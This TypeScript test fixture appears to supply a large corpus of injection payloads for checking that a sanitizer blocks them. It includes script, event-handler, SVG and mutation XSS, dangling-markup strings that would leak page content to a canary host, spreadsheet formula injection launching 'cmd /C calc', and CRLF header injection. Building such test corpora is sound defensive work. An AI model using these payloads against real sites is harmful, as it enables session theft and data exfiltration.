/**
 * What an attacker writes where a name or a text is asked for, all of it our own. Whatever runs sets the global
 * `struck` or opens a dialog; whatever loads asks the `canary`, an origin that nothing of ours ever asks.
 */
export const payloadsFor = (canary: string): readonly string[] => [
  ...scripts(canary),
  ...eventHandlers(),
  ...drawings(canary),
  ...addresses(canary),
  ...mutations(),
  ...frames(canary),
  ...styles(canary),
  ...heads(canary),
  ...danglers(canary),
  ...spellings(),
  ...templates(),
  ...cells(canary),
  ...headerLines(),
];

const scripts = (canary: string) => [
  "<script>struck=1</script>",
  "<ScRiPt>alert(1)</sCrIpT>",
  "<script/x>struck=1</script/x>",
  "<scr<script>ipt>struck=1</script>",
  `<script src=${canary}/s.js></script>`,
  `<script type=module>import "${canary}/m.js"</script>`,
  ..."</script> </title> </style> </textarea> --> ]]> \"> '>"
    .split(" ")
    .map((end) => `${end}<script>struck=1</script>`),
];

const eventHandlers = () => [
  "<img src=x onerror=struck=1>",
  "<img src=x onerror=alert(1)//",
  "<img src onerror&#61;struck=1>",
  '" autofocus onfocus="struck=1',
  "' autofocus onfocus='struck=1",
  "<input autofocus onfocus=struck=1>",
  "<details open ontoggle=struck=1>",
  "<video><source onerror=struck=1></video>",
  "<audio src=x onerror=struck=1>",
  "<body onload=struck=1>",
  "<marquee onstart=struck=1>m</marquee>",
  '<b onanimationstart=struck=1 style="animation:x 1s">',
  "<dialog open onbeforetoggle=struck=1>",
];

const drawings = (canary: string) => [
  "<svg onload=struck=1>",
  "<svg><script>struck=1</script></svg>",
  `<svg><script href=${canary}/s.js /></svg>`,
  "<svg><animate onbegin=struck=1 attributeName=x dur=1s>",
  "<svg><a><set attributeName=href to=javascript:struck=1 /></a>",
  '<svg><use href="data:image/svg+xml,<svg id=x onload=struck=1>#x"/></svg>',
  "<svg><foreignObject><img src=x onerror=struck=1></svg>",
  `<svg><image href=${canary}/i.png></svg>`,
];

const addresses = (canary: string) => [
  "javascript:struck=1",
  "<javascript:struck=1>",
  "data:text/html,<script>struck=1</script>",
  '<a href="javascript:struck=1">x</a>',
  '<a href="jav&#x09;ascript:struck=1">x</a>',
  '<a href=" &#1;javascript:struck=1">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">x</a>',
  "[x](javascript:struck=1)",
  "[x](JaVaScRiPt&colon;struck=1)",
  '[x](<x" autofocus onfocus="struck=1>)',
  `![x](${canary}/i.png)`,
  `<img srcset="${canary}/i.png 1x">`,
  `<object data=${canary}/o></object>`,
  `<embed src=${canary}/e>`,
];

/** What one parser takes for harmless text, and the next for an element. */
const mutations = () => [
  "<math><mtext><table><mglyph><style><img src=x onerror=struck=1>",
  '<svg></p><style><a id="</style><img src=x onerror=struck=1>">',
  '<noscript><p title="</noscript><img src=x onerror=struck=1>">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=struck=1>",
  "<template><img src=x onerror=struck=1></template>",
  "<p><template shadowrootmode=open><img src=x onerror=struck=1>",
  '<xmp><p title="</xmp><img src=x onerror=struck=1>">',
  "<select><style></select><img src=x onerror=struck=1>",
  '<math href="javascript:struck=1">x</math>',
  "<!--><img src=x onerror=struck=1>-->",
  "<![CDATA[><img src=x onerror=struck=1>]]>",
  "<?x ><img src=x onerror=struck=1>?>",
];

const frames = (canary: string) => [
  '<iframe srcdoc="<script>parent.struck=1</script>"></iframe>',
  '<iframe srcdoc="&lt;script&gt;top.struck=1&lt;/script&gt;"></iframe>',
  "<iframe src=javascript:parent.struck=1></iframe>",
  `<iframe src=${canary}/frame></iframe>`,
  "<frameset onload=struck=1>",
];

const styles = (canary: string) => [
  `<style>@import "${canary}/a.css"</style>`,
  `<style>*{background:url(${canary}/b)}</style>`,
  `<p style="background:url(${canary}/b)">x</p>`,
  '<p style="width:expression(struck=1)">x</p>',
  `};*{background:url(${canary}/b)}`,
  `<link rel=stylesheet href=${canary}/a.css>`,
];

const heads = (canary: string) => [
  `<meta http-equiv=refresh content="0;url=${canary}/r">`,
  "<meta http-equiv=refresh content=0;url=javascript:struck=1>",
  `<base href=${canary}/>`,
  `<link rel=prefetch href=${canary}/p>`,
  `<form action=${canary}/f><input name=password autofocus></form>`,
  "<form><button formaction=javascript:struck=1>x</button></form>",
];

/** Half an element, which would swallow what follows and send it away; and names that stand for the page's own. */
const danglers = (canary: string) => [
  `<img src='${canary}/?`,
  `"><a href="${canary}/?x=`,
  "<textarea>",
  "<a id=struck><a id=struck name=x>",
  "<form id=document><img name=body><img name=forms>",
];

const spellings = () => [
  "＜script＞struck=1＜/script＞",
  "\u202e<script>struck=1</script>\u202c",
  "<img\u00a0src=x\u2028onerror=struck=1>",
  "\ufeff<script>struck=1</script>",
  "&lt;script&gt;struck=1&lt;/script&gt;",
  "&#60;img src=x onerror=struck=1&#62;",
  "\\u003cscript\\u003estruck=1\\u003c/script\\u003e",
  "%3Cscript%3Estruck=1%3C/script%3E",
  "+ADw-script+AD4-struck=1+ADw-/script+AD4-",
  "\u0001<\u0008script>struck=1</script>",
];

const templates = () => [
  "{{constructor.constructor('struck=1')()}}",
  "$" + "{struck=1}",
  "<%= struck=1 %>",
  "__proto__",
  "%s%n%%",
  "$&$`$'$1",
];

/** What a table of numbers would take for a formula. */
const cells = (canary: string) => [
  `=HYPERLINK("${canary}/x","open")`,
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
];

const headerLines = () => [
  "Ada\r\nBcc: canary@people.example",
  "Ada\r\nSet-Cookie: struck=1",
  "Ada\n\n<script>struck=1</script>",
];
